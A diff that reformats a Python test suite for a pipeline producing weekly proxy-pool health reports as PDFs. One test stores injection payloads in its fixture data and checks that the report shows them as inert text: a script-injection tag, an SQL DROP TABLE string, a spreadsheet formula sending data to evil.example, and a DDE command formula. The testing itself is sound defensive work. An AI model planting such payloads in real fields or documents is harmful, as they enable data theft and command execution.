@@ -59,9 +59,13 @@ def test_report_is_published_like_every_export(published_week: PublishedWeek) ->
     assert manifest["format"] == "pdf"
     assert manifest["compression"] == "none"
     assert manifest["files"] == [
-        {"path": path.name, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest(),
-         "rows": pages}
-    ]  # fmt: skip
+        {
+            "path": path.name,
+            "bytes": len(data),
+            "sha256": hashlib.sha256(data).hexdigest(),
+            "rows": pages,
+        }
+    ]
     assert count_rows("pdf", "none", io.BytesIO(data)) == pages
     assert published_week.result_checks
     assert all(published_week.result_checks)
@@ -117,10 +121,19 @@ def test_charts_and_tables_are_there(published_week: PublishedWeek) -> None:  # 
     path, _ = published(published_week.exports, "health_report", REPORT_DAY, ".pdf")
     _, texts = pdf_text(path.read_bytes())
     every = " ".join(texts)
-    for title in ("Availability", "Latency distribution", "Failures by error type",
-                  "Pool composition", "By protocol", "By country", "Most reliable proxies",
-                  "Least reliable proxies", "Most frequent error messages",
-                  "Sources ranked by health", "Where these numbers come from"):  # fmt: skip
+    for title in (
+        "Availability",
+        "Latency distribution",
+        "Failures by error type",
+        "Pool composition",
+        "By protocol",
+        "By country",
+        "Most reliable proxies",
+        "Least reliable proxies",
+        "Most frequent error messages",
+        "Sources ranked by health",
+        "Where these numbers come from",
+    ):
         assert title in every, title
     # Top/bottom tables hold at most 10 ranked proxies each.
     ranks = re.findall(r"(?:^| )(\d{1,2}) (?:https?|socks[45])://", texts[2])
@@ -141,8 +154,7 @@ def hostile_database(path: Path) -> Path:
             url = f"http://10.0.0.{n + 1}:8080"
             db.add_proxy(url, source=text[:200])
             for hour in range(3):
-                db.add_check(url, f"2026-11-20 0{hour}:00:00.000000", False, None,
-                             "timeout", text)  # fmt: skip
+                db.add_check(url, f"2026-11-20 0{hour}:00:00.000000", False, None, "timeout", text)
             db.add_check(url, "2026-11-20 05:00:00.000000", True, 100.0 + n)
     return path
 
@@ -151,18 +163,24 @@ def test_hostile_strings_render_as_text(tmp_path: Path, instance: DagsterInstanc
     database = hostile_database(tmp_path / "proxies.db")
     exports = tmp_path / "exports"
     result = materialize(
-        [configured(health_report, {"min_checks": 1})], partition_key="2026-11-20",
-        instance=instance, resources=handmade_resources(database, exports),
-    )  # fmt: skip
+        [configured(health_report, {"min_checks": 1})],
+        partition_key="2026-11-20",
+        instance=instance,
+        resources=handmade_resources(database, exports),
+    )
     assert result.success
     assert all(e.passed for e in result.get_asset_check_evaluations())
     path, _ = published(exports, "health_report", date(2026, 11, 20), ".pdf")
     _, texts = pdf_text(path.read_bytes())
     every = " ".join(texts)
-    for shown in ("</script><script>alert('x')</script>", "'; DROP TABLE proxy_identities; --",
-                  "O'Brien said \"it's a 'proxy'\"", '=HYPERLINK("http://evil.example/steal?d="&A1',
-                  "C:\\Users\\proxy\\new\\table\\x41.txt",
-                  "@SUM(1+1)*cmd|' /C calc'!A0"):  # fmt: skip
+    for shown in (
+        "</script><script>alert('x')</script>",
+        "'; DROP TABLE proxy_identities; --",
+        "O'Brien said \"it's a 'proxy'\"",
+        '=HYPERLINK("http://evil.example/steal?d="&A1',
+        "C:\\Users\\proxy\\new\\table\\x41.txt",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ):
         assert shown in every, shown
     # Control characters never reach the PDF's text; long messages are truncated.
     assert "\x1b" not in every
@@ -176,9 +194,11 @@ def test_an_empty_week_says_so(tmp_path: Path, instance: DagsterInstance) -> Non
         pass
     exports = tmp_path / "exports"
     result = materialize(
-        [health_report], partition_key="2026-11-20",
-        instance=instance, resources=handmade_resources(tmp_path / "proxies.db", exports),
-    )  # fmt: skip
+        [health_report],
+        partition_key="2026-11-20",
+        instance=instance,
+        resources=handmade_resources(tmp_path / "proxies.db", exports),
+    )
     assert result.success
     path, manifest = published(exports, "health_report", date(2026, 11, 20), ".pdf")
     pages, texts = pdf_text(path.read_bytes())
@@ -193,22 +213,29 @@ def test_an_empty_week_says_so(tmp_path: Path, instance: DagsterInstance) -> Non
     ("config", "message"),
     [
         ({"accent_color": "blue"}, "accent_color 'blue' is not a colour: write it as #RRGGBB"),
-        ({"logo_path": "/nonexistent/logo.png"},
-         "logo_path '/nonexistent/logo.png' is not a file: point it at a PNG or JPEG image, or "
-         "leave it unset for no logo; nothing was written"),
+        (
+            {"logo_path": "/nonexistent/logo.png"},
+            "logo_path '/nonexistent/logo.png' is not a file: point it at a PNG or JPEG image, or "
+            "leave it unset for no logo; nothing was written",
+        ),
     ],
-)  # fmt: skip
+)
 def test_bad_branding_is_a_clear_error_and_writes_nothing(
-    tmp_path: Path, instance: DagsterInstance,
-    config: dict[str, str], message: str,
-) -> None:  # fmt: skip
+    tmp_path: Path,
+    instance: DagsterInstance,
+    config: dict[str, str],
+    message: str,
+) -> None:
     database = hostile_database(tmp_path / "proxies.db")
     exports = tmp_path / "exports"
     result = materialize(
-        [requested(health_report)], partition_key="2026-11-20", instance=instance,
-        resources=handmade_resources(database, exports), raise_on_error=False,
+        [requested(health_report)],
+        partition_key="2026-11-20",
+        instance=instance,
+        resources=handmade_resources(database, exports),
+        raise_on_error=False,
         run_config=request_config(health_report, config),
-    )  # fmt: skip
+    )
     assert not result.success
     failure = result.get_step_failure_events()[0].step_failure_data.error
     assert failure is not None
@@ -222,10 +249,13 @@ def test_a_logo_that_is_not_an_image_is_refused(tmp_path: Path, instance: Dagste
     database = hostile_database(tmp_path / "proxies.db")
     exports = tmp_path / "exports"
     result = materialize(
-        [requested(health_report)], partition_key="2026-11-20", instance=instance,
-        resources=handmade_resources(database, exports), raise_on_error=False,
+        [requested(health_report)],
+        partition_key="2026-11-20",
+        instance=instance,
+        resources=handmade_resources(database, exports),
+        raise_on_error=False,
         run_config=request_config(health_report, {"logo_path": str(logo)}),
-    )  # fmt: skip
+    )
     assert not result.success
     failure = result.get_step_failure_events()[0].step_failure_data.error
     assert failure is not None
@@ -243,24 +273,34 @@ def big_pool(path: Path, proxies: int, end: date) -> None:
             " is_residential, is_datacenter, source, discovered_at)"
             " VALUES (?, ?, ?, ?, ?, 0, 1, ?, ?)",
             (
-                (f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080", "http",
-                 f"10.{n >> 16}.{(n >> 8) & 255}.{n & 255}", 8080, f"C{n % 30}",
-                 f"source-{n % 40}", "2026-10-01 00:00:00.000000")
+                (
+                    f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080",
+                    "http",
+                    f"10.{n >> 16}.{(n >> 8) & 255}.{n & 255}",
+                    8080,
+                    f"C{n % 30}",
+                    f"source-{n % 40}",
+                    "2026-10-01 00:00:00.000000",
+                )
                 for n in range(proxies)
             ),
-        )  # fmt: skip
+        )
         db.connection.executemany(
             "INSERT INTO validation_results (proxy_url, validated_at, is_valid, response_time_ms,"
             " error_type, error_message) VALUES (?, ?, ?, ?, ?, ?)",
             (
-                (f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080",
-                 f"{end - timedelta(days=(n + k) % 7)} 0{k}:00:00.000000", (n + k) % 5 != 0,
-                 None if (n + k) % 5 == 0 else float(50 + (n * 7 + k) % 2000),
-                 "timeout" if (n + k) % 5 == 0 else None,
-                 f"timed out after {n % 13} s" if (n + k) % 5 == 0 else None)
-                for n in range(proxies) for k in range(2)
+                (
+                    f"http://10.{n >> 16}.{(n >> 8) & 255}.{n & 255}:8080",
+                    f"{end - timedelta(days=(n + k) % 7)} 0{k}:00:00.000000",
+                    (n + k) % 5 != 0,
+                    None if (n + k) % 5 == 0 else float(50 + (n * 7 + k) % 2000),
+                    "timeout" if (n + k) % 5 == 0 else None,
+                    f"timed out after {n % 13} s" if (n + k) % 5 == 0 else None,
+                )
+                for n in range(proxies)
+                for k in range(2)
             ),
-        )  # fmt: skip
+        )
 
 
 @pytest.mark.slow  # a 100,000-proxy pool rendered: ~25 s
@@ -295,14 +335,18 @@ def test_reports_are_published_to_s3(
     client.create_bucket(Bucket=bucket)
     store = ExportStore(destination=f"s3://{bucket}/weekly", s3=moto_server.resource())
     resources = export_resources(
-        sample_deployment.database, "", store=store,
+        sample_deployment.database,
+        "",
+        store=store,
         config_path=str(sample_deployment.config_path),
-    )  # fmt: skip
+    )
     with sample_keys(sample_deployment):
         result = materialize(
-            REPORT_ASSETS, partition_key=REPORT_DAY.isoformat(), instance=instance,
+            REPORT_ASSETS,
+            partition_key=REPORT_DAY.isoformat(),
+            instance=instance,
             resources=resources,
-        )  # fmt: skip
+        )
     assert result.success
     evaluations = result.get_asset_check_evaluations()
     assert len(evaluations) == 4  # each report: export_is_intact, no_credential_leak
